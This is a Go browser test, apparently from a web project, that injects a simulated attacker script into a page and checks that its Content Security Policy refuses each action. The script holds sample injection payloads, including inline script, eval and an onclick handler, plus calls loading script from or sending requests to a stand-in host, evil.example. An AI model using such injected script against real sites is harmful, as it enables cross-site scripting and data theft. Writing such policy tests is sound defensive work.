package main

import (
	"context"
	"strings"
	"time"

	"github.com/chromedp/chromedp"

	"laststand/internal/testenv"
)

// forbiddenActions is a script as an attacker might inject it into the page. The browser must
// refuse all its actions. `refused` collects the policy directives that refused one.
const forbiddenActions = `
window.refused = new Set();
document.addEventListener('securitypolicyviolation', (e) => refused.add(e.effectiveDirective));
const attempt = (f) => { try { f(); } catch { /* it was refused at once */ } };
attempt(() => { const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s); });
attempt(() => { document.body.innerHTML += '<b onclick="window.hacked = 1">x</b>'; });
attempt(() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s); });
attempt(() => { import('https://evil.example/x.js').catch(() => {}); });
setTimeout(() => attempt(() => eval('window.hacked = 1'))); // in a timer, because code of the debugger may use eval
attempt(() => document.body.setAttribute('style', 'color: red'));
attempt(() => { new Image().src = 'https://evil.example/x.png'; });
attempt(() => { fetch('https://evil.example/').catch(() => {}); });
attempt(() => new WebSocket('wss://evil.example/'));
attempt(() => { const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f); });
attempt(() => { const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); });
''`

// checkForbiddenActions checks that the browser refuses all that the page's policy forbids. The
// browser reports that in its console, which would fail a test with a tab.
func (b browser) checkForbiddenActions(url string) {
	b.Helper()
	tabContext, closeTab := chromedp.NewContext(b.ctx)
	defer closeTab()
	ctx, cancel := context.WithTimeout(tabContext, 30*time.Second)
	defer cancel()
	messages := chromedp.Console(ctx)
	testenv.NoError(b, chromedp.Do(ctx, chromedp.Navigate(url)))
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[string](forbiddenActions)); err != nil {
		b.Fatal(err)
	}
	var refused string
	want := []string{"script-src", "style-src", "img-src", "connect-src", "frame-src", "base-uri", "require-trusted-types-for"}
	waitUntil(b.T, "every forbidden action is refused", func() bool {
		var err error
		if refused, err = chromedp.Run(ctx, chromedp.Evaluate[string](`[...refused].join(' ') + (window.hacked ?? '')`)); err != nil {
			b.Fatal(err)
		}
		return containsAll(refused, want)
	})
	if strings.Contains(refused, "1") {
		b.Errorf("a foreign script ran: %s", refused)
	}
	for m, err := range messages {
		if err != nil {
			b.Fatalf("the console has no message about the policy: %v", err)
		}
		if m.Type == chromedp.ConsoleError && strings.Contains(m.Text, "Content Security Policy") {
			return
		}
	}
}
